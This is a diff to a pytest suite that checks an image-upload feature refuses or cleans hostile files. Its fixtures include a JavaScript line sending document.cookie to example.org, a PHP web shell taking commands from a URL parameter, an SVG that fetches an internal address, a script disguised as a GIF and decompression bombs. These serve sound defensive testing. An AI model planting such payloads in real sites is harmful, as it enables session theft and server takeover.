@@ -6,6 +6,7 @@ import zlib
 from io import BytesIO
 from pathlib import Path
 
+import pillow_heif
 import pytest
 from PIL import Image
 from PIL.ExifTags import Base
@@ -43,13 +44,29 @@ def noise(image_format):
     return buffer.getvalue()
 
 
-def moving_gif():
+def moving(image_format):
     buffer = BytesIO()
-    Image.new("L", (9, 9)).save(buffer, "GIF", save_all=True, append_images=[Image.new("L", (9, 9), 200)])
+    Image.new("RGB", (9, 9)).save(buffer, image_format, save_all=True, append_images=[Image.new("RGB", (9, 9), "tan")])
     return buffer.getvalue()
 
 
+def half_a_heic():
+    buffer = BytesIO()
+    pillow_heif.from_pillow(Image.effect_noise((300, 200), 80).convert("RGB")).save(buffer, quality=90)
+    return buffer.getvalue()[:9000]
+
+
+def huge_jpeg(side):
+    """A JPEG of a few hundred bytes that calls itself this wide and high: the size stands in its frame header."""
+    buffer = BytesIO()
+    Image.new("L", (8, 8)).save(buffer, "JPEG")
+    data, size = buffer.getvalue(), side.to_bytes(2)
+    place = data.index(b"\xff\xc0") + 5
+    return data[:place] + size + size + data[place + 4 :]
+
+
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>'
+OUTSIDE_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:1/secret"/></svg>'
 HTML = b"<!doctype html><script>alert(1)</script>"
 GREY_ROW = b"\x00" + b"\x80" * 30
 TEXT_BOMB = chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"a" * 80_000_000, 9))
@@ -71,7 +88,15 @@ BAD_FILES = {
     "a script in a GIF's clothes": ("trick.gif", b"GIF89a/*" + HTML + b"*/=1;", "damaged"),
     "another format than its name says": ("photo.jpg", noise("PNG"), "does not match"),
     "a forbidden extension": ("photo.exe", noise("PNG"), "Not a supported image format"),
-    "a moving picture": ("wave.gif", moving_gif(), "moves"),
+    "a moving GIF": ("wave.gif", moving("GIF"), "moves"),
+    "a moving PNG": ("wave.png", moving("PNG"), "moves"),
+    "a moving WebP": ("wave.webp", moving("WEBP"), "moves"),
+    "a script under another name": ("script.jpg", b"fetch('https://example.org/' + document.cookie)", "not an image"),
+    "a program for the server under another name": ("photo.jpg", b"<?php system($_GET['c']); ?>", "not an image"),
+    "an SVG that fetches things": ("drawing.png", OUTSIDE_SVG, "does not match|not an image"),
+    "a truncated AVIF": ("half.avif", noise("AVIF")[:2000], "damaged"),
+    "a truncated HEIC": ("half.heic", half_a_heic(), "damaged"),
+    "a JPEG of 30,000 by 30,000 in a few hundred bytes": ("bomb.jpg", huge_jpeg(30_000), "too many pixels"),
 }
 
 
@@ -213,3 +238,49 @@ def test_a_picture_of_the_largest_size_allowed_is_taken(photo_desk):
 def test_only_roles_with_the_right_may_upload(login, staff, role, may_add):
     upload_single(login(staff[role]), factories.image_file())
     assert Photo.objects.exists() == may_add
+
+
+@pytest.mark.parametrize("way_in", WAYS_IN)
+def test_a_file_larger_than_the_house_allows_is_refused_with_the_limit(photo_desk, way_in, settings):
+    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 5_000
+    message = message_in(way_in(photo_desk, SimpleUploadedFile("large.jpg", noise("JPEG"))))
+    assert "This file is too big" in message
+    assert "4.9" in message
+    assert not Photo.objects.exists()
+
+
+@pytest.mark.parametrize("behind", [HTML, b"PK\x03\x04" + b"a program in an archive", b"%PDF-1.7 a document"])
+def test_of_a_picture_that_is_something_else_too_only_the_picture_is_shown(photo_desk, behind):
+    upload_multiple(photo_desk, SimpleUploadedFile("both.jpg", encoded("JPEG") + behind))
+    photo = Photo.objects.get()
+    assert behind not in content_of(photo)
+    assert behind not in content_of(photo.get_rendition("width-20"))
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")  # Pillow's, about exactly this
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"exif": b"Exif\x00\x00" + b"\xff" * 60_000},
+        {"xmp": b"<a>" * 20_000},
+        {"xmp": b"\xff\xfe\x00\xd8"},
+        {"comment": b"\x00" * 60_000},
+        {"icc_profile": b"\xff" * 200_000},
+    ],
+    ids=["garbage in EXIF", "garbage in XMP", "no letters in XMP", "garbage in a comment", "garbage for a profile"],
+)
+def test_a_photo_with_hostile_metadata_is_taken_without_it(photo_desk, options):
+    buffer = BytesIO()
+    Image.new("RGB", (64, 48), "tan").save(buffer, "JPEG", **options)
+    upload_multiple(photo_desk, SimpleUploadedFile("a.jpg", buffer.getvalue()))
+    photo = Photo.objects.get()
+    assert photo.found == {"says": {}, "carried": []}
+    assert opened(content_of(photo.get_rendition("width-20"))).info.keys() <= {
+        "jfif",
+        "jfif_version",
+        "jfif_unit",
+        "jfif_density",
+        "progressive",
+        "progression",
+        "xmp",
+    }
